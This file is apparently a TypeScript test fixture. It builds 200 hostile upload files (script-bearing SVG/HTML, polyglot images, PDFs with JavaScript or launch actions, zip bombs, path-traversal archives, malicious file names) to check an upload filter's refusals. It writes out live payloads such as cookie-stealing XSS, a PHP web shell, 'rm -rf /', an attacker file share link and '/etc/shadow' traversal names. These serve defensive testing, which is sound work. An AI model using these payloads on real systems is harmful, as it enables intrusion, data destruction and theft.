import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import type { RefusalCode } from '../file-rules.ts';
import { facturX, flateStream, objectStream, pdfWith, pdfWithAttachment } from './pdf-maker.ts';
import { officeWith, withStatedSize, zipWith } from './zip-maker.ts';

/** A file somebody wishes us ill with. */
export interface HostileFile {
  what: string;
  name: string;
  content: Buffer;
  /** How it is refused; null for one that is taken because storing it makes it harmless. */
  refusal: RefusalCode | null;
}

const script = '<script>alert(document.cookie)</script>';
const text = (content: string) => Buffer.from(content);

/** Draws the corpus: 200 files. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const png = await picture('png');
  const files: HostileFile[] = [];
  const add = (what: string, content: Buffer, refusal: RefusalCode | null, name = 'file.png') =>
    files.push({ what, name, content, refusal });
  for (const [what, content] of Object.entries(activeTexts()))
    for (const name of ['photo.png', 'paper.pdf', 'list.xlsx'])
      add(what, content, 'FILE_KIND', name);
  for (const [what, content] of Object.entries(programs()))
    add(what, content, 'FILE_KIND', 'photo.jpg');
  for (const [what, content, refusal] of pictureBombs(png)) add(what, content, refusal);
  for (const [what, content] of await polyglots(png)) add(what, content, null);
  for (const [what, content, refusal] of pdfs(png)) add(what, content, refusal, 'paper.pdf');
  for (const [what, content, refusal] of await archives()) add(what, content, refusal, 'list.zip');
  for (const name of hostileNames()) add(`the name ${JSON.stringify(name)}`, png, null, name);
  return files;
}

function picture(format: 'png' | 'jpeg' | 'webp' | 'gif' | 'avif', side = 40): Promise<Buffer> {
  const create = { width: side, height: side, channels: 3 as const, background: '#3a7' };
  return sharp({ create }).toFormat(format).toBuffer();
}

/** What a browser would run if it were served as it is. */
function activeTexts(): Record<string, Buffer> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
  return {
    'an SVG with a script': text(svg),
    'an SVG behind an XML head': text(`<?xml version="1.0"?><!DOCTYPE svg>${svg}`),
    'an SVG in gzip': gzipSync(svg),
    'an SVG in UTF-16': Buffer.from(`\ufeff${svg}`, 'utf16le'),
    'an HTML page': text(`<!doctype html><title>x</title>${script}`),
    'an HTML page behind blanks': text(`${' '.repeat(2_000)}<html>${script}`),
    'an HTML page behind half the head of a picture': text(`GI89a<html>${script}`),
    'an XHTML page': text(`<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
    'an XML with an entity bomb': text(
      '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>',
    ),
    'an XSL sheet': text('<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'),
    JavaScript: text('fetch("/user").then(alert)'),
    PHP: text('<?php system($_GET["c"]); ?>'),
    'a PDF behind an HTML page': Buffer.concat([text(`<html>${script}`), pdfWith()]),
    'a mail with an HTML part': text(
      `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${script}`,
    ),
    'a link file': text('[InternetShortcut]\r\nURL=file://attacker/share'),
    nothing: text(' '),
  };
}

function programs(): Record<string, Buffer> {
  const head = (hex: string) => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(600)]);
  return {
    'a Windows program': head('4d5a90000300000004000000ffff0000'),
    'a Linux program': head('7f454c4602010100000000000000000002003e00'),
    'a Mac program': head('cffaedfe0700000103000000'),
    'a shell script': text('#!/bin/sh\nrm -rf /\n'),
    'a Java class': head('cafebabe00000034'),
    'a Flash film': head('4657530a'),
    'an old Office document': head('d0cf11e0a1b11ae1'),
    'a 7z archive': head('377abcaf271c0004'),
    'a RAR archive': head('526172211a0701003392b5e5'),
    'a gzip archive': gzipSync(Buffer.alloc(1_000)),
    'a disk image': Buffer.concat([Buffer.alloc(32_769), text('CD001'), Buffer.alloc(2_000)]),
    'a TIFF': head('49492a0008000000'),
    'a bitmap': head('424d460000000000'),
    'a PostScript document': text('%!PS-Adobe-3.0\n/x { showpage } def'),
    'an RTF document': text('{\\rtf1\\ansi{\\object\\objautlink}}'),
    'a video': head('000000186674797069736f6d'),
    'a sqlite database': text('SQLite format 3\0'),
  };
}

/** PNG chunk with a length and a (wrong) checksum that readers of heads do not look at. */
function pngHead(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', head),
    pngChunk('IDAT', deflateSync(Buffer.alloc(100_000))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function pngChunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([text(type), content]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crcOf(body));
  return Buffer.concat([length, body, sum]);
}

function crcOf(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

function pictureBombs(png: Buffer): [string, Buffer, RefusalCode][] {
  const sizes: [number, number][] = [
    [50_000, 50_000],
    [40_000_001, 1],
    [1, 40_000_001],
    [6_325, 6_325],
    [100_000, 20_000],
  ];
  return [
    ...sizes.map(([width, height]): [string, Buffer, RefusalCode] => [
      `a picture of ${width} × ${height} pixels`,
      pngHead(width, height),
      'FILE_PIXELS',
    ]),
    ['an HTML page behind the head of a picture', text(`GIF89a<html>${script}`), 'FILE_DAMAGED'],
    ...[20, 40, 60, png.length - 30].map((length): [string, Buffer, RefusalCode] => [
      `a picture cut after ${length} bytes`,
      png.subarray(0, length),
      'FILE_DAMAGED',
    ]),
  ];
}

/** Pictures that are something else as well: only their pixels are kept. */
async function polyglots(png: Buffer): Promise<[string, Buffer][]> {
  const tails: Record<string, Buffer> = {
    'an HTML page': text(`<html>${script}`),
    'a PHP script': text('<?php system($_GET["c"]); ?>'),
    'a ZIP archive': await zipWith({ 'a.exe': 'MZ' }),
    'a PDF': pdfWith(['<< /S /JavaScript /JS (app.alert(1)) >>']),
    'a Java archive': await zipWith({ 'META-INF/MANIFEST.MF': 'Main-Class: A' }),
  };
  const heads: Record<string, Buffer> = {
    PNG: png,
    JPEG: await picture('jpeg'),
    WebP: await picture('webp'),
    GIF: await picture('gif'),
  };
  const exif = { IFD0: { ImageDescription: script }, IFD3: { GPSLatitude: '52/1 31/1 0/1' } };
  const located = await sharp(png).jpeg().withExif(exif).toBuffer();
  const commented = Buffer.concat([
    png.subarray(0, 33),
    pngChunk('tEXt', text(`Comment\0${script}`)),
    png.subarray(33),
  ]);
  return [
    ...Object.entries(heads).flatMap(([head, content]) =>
      Object.entries(tails).map(([tail, more]): [string, Buffer] => [
        `a ${head} with ${tail} behind it`,
        Buffer.concat([content, more]),
      ]),
    ),
    ['a JPEG with a place and a script in its EXIF', located],
    ['a PNG with a script in a comment', commented],
  ];
}

function pdfs(png: Buffer): [string, Buffer, RefusalCode | null][] {
  const js = '<< /S /JavaScript /JS (app.launchURL("http://x")) >>';
  const actions: Record<string, string> = {
    'a script': js,
    'a script with an escaped name': '<< /S /J#61v#61Script /JS (x) >>',
    'a script with a name all escaped': '<< /S /#4a#61#76#61#53#63#72#69#70#74 /JS (x) >>',
    'a launch action': '<< /S /Launch /F (cmd.exe) >>',
    'a launch action without blanks': '<</S/Launch/Win<</F(cmd.exe)>>>>',
    'a rich media annotation': '<< /Subtype /RichMedia >>',
    'a rendition': '<< /S /Rendition /JS (x) >>',
    'an XFA form': '<< /XFA [(template) 12 0 R] >>',
    'a form that sends itself': '<< /S /SubmitForm /F (http://x) >>',
    'an import of data': '<< /S /ImportData /F (http://x) >>',
    'a jump into an embedded file': '<< /S /GoToE >>',
    'a film': '<< /Subtype /Movie >>',
  };
  const plain = Object.entries(actions).flatMap(
    ([what, object]): [string, Buffer, RefusalCode][] => [
      [`a PDF with ${what}`, pdfWith([object]), 'FILE_ACTIVE'],
      [`a PDF with ${what} in an object stream`, pdfWith([objectStream(object)]), 'FILE_ACTIVE'],
      [
        `a PDF with ${what} in a stream that only its /First tells`,
        pdfWith([flateStream(`30 0 ${object}`, '/N 1 /F#69rst 5')]),
        'FILE_ACTIVE',
      ],
      [
        `a PDF with ${what} in a string that is an object`,
        pdfWith([`(\n30 0 obj\n${object}\nendobj)`]),
        'FILE_ACTIVE',
      ],
    ],
  );
  const hexed = `<< /Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n${Buffer.from('x').toString('hex')}>\nendstream`;
  const bomb = objectStream('x'.repeat(60_000_000));
  return [
    ...plain,
    ['a PDF with a script behind its end', Buffer.concat([pdfWith(), text(js)]), 'FILE_DAMAGED'],
    ['a PDF with a page behind its end', Buffer.concat([pdfWith(), text(script)]), 'FILE_DAMAGED'],
    ['a PDF with a picture behind its end', Buffer.concat([pdfWith(), png]), 'FILE_DAMAGED'],
    ['a PDF without an end', pdfWith().subarray(0, 100), 'FILE_DAMAGED'],
    ['a PDF with an unreadable object stream', pdfWith([hexed]), 'FILE_DAMAGED'],
    ['a PDF with an object stream that is a bomb', pdfWith([bomb]), 'FILE_UNPACKS'],
    ['an encrypted PDF', pdfWith(['<< /Encrypt 12 0 R >>']), 'FILE_ENCRYPTED'],
    ['a PDF with an embedded program', pdfWithAttachment('MZ', 'factur-x.xml'), 'FILE_ACTIVE'],
    ['a PDF with an embedded page', pdfWithAttachment(`<html>${script}`), 'FILE_ACTIVE'],
    [
      'a PDF whose second attachment is a program',
      pdfWith([flateStream('MZ'), '<< /EF << /F 10 0 R >> >>', flateStream(facturX)]),
      'FILE_ACTIVE',
    ],
    [
      'a PDF whose attachment is named in an object stream',
      pdfWith([flateStream('MZ'), objectStream('<< /Type /Filespec /EF << /F 10 0 R >> >>')]),
      'FILE_ACTIVE',
    ],
    [
      'a PDF whose attachments are elsewhere',
      pdfWith([flateStream('MZ'), '<< /EF 12 0 R >>', '<< /F 10 0 R >>']),
      'FILE_ACTIVE',
    ],
    [
      'a PDF of nested brackets',
      pdfWith([`<< /A ${'['.repeat(200_000)}${']'.repeat(200_000)} >>`]),
      null,
    ],
  ];
}

async function archives(): Promise<[string, Buffer, RefusalCode | null][]> {
  const zeros = Buffer.alloc(30_000_000);
  const liar = withStatedSize(await zipWith({ 'a.txt': zeros }), 100);
  const names = [
    'run.exe',
    'run.js',
    'page.html',
    'x.svg',
    'inner.zip',
    'run.EXE. ',
    'a/b/run.ps1',
  ];
  const harmful = await Promise.all(
    names.map(
      async (name): Promise<[string, Buffer, RefusalCode]> => [
        `an archive with ${name}`,
        await zipWith({ [name]: 'x' }),
        'FILE_ACTIVE',
      ],
    ),
  );
  const macros = ['word', 'excel'] as const;
  const documents = await Promise.all(
    macros.flatMap((kind) =>
      ['vbaProject.bin', 'activeX/activeX1.xml', 'embeddings/oleObject1.bin'].map(
        async (part): Promise<[string, Buffer, RefusalCode]> => [
          `an office document (${kind}) with ${part}`,
          await officeWith(kind, { [`${kind === 'word' ? 'word' : 'xl'}/${part}`]: 'x' }),
          'FILE_ACTIVE',
        ],
      ),
    ),
  );
  const many = Object.fromEntries(Array.from({ length: 2_001 }, (_, n) => [`${n}.txt`, 'x']));
  const traversal = await zipWith({ 'aa/aa/aa.txt': 'x' });
  const leading = Buffer.from(
    traversal.toString('latin1').replaceAll('aa/aa/aa.txt', '../../aa.txt'),
    'latin1',
  );
  return [
    ...harmful,
    ...documents,
    [
      'an archive that unpacks to 30 MB of nothing',
      await zipWith({ 'a.txt': zeros }),
      'FILE_UNPACKS',
    ],
    ['an archive that lies about its size', liar, 'FILE_DAMAGED'],
    ['an archive of 2,001 files', await zipWith(many), 'FILE_UNPACKS'],
    ['an archive whose names lead out', leading, 'FILE_DAMAGED'],
    ['half an archive', traversal.subarray(0, 60), 'FILE_DAMAGED'],
    ['a workbook that is a bomb', await officeWith('excel', { 'xl/a.xml': zeros }), 'FILE_UNPACKS'],
  ];
}

/** Names of a harmless picture: stored and shown without what makes them dangerous. */
function hostileNames(): string[] {
  const stems = ['../../etc/passwd', '..\\..\\boot.ini', '/etc/shadow', 'C:\\autoexec.bat'];
  return [
    ...stems,
    'a\0.png.exe',
    'a\r\nSet-Cookie: x=1.png',
    'photo\u202egnp.exe',
    'photo\u2066\u2069.png',
    '"; filename="evil.html',
    '<img src=x onerror=alert(1)>.png',
    'CON',
    'nul.png',
    '.htaccess',
    '...',
    '',
    ' ',
    'a'.repeat(900),
    '🚲'.repeat(300),
    '%2e%2e%2fx',
    'a/b/c/',
    'x.png\u0000.html',
    'file.html',
    'file.svg',
    'ünïcödé ☃.png',
    '\ufeffbom.png',
    'a;b|c>d*.png',
  ];
}
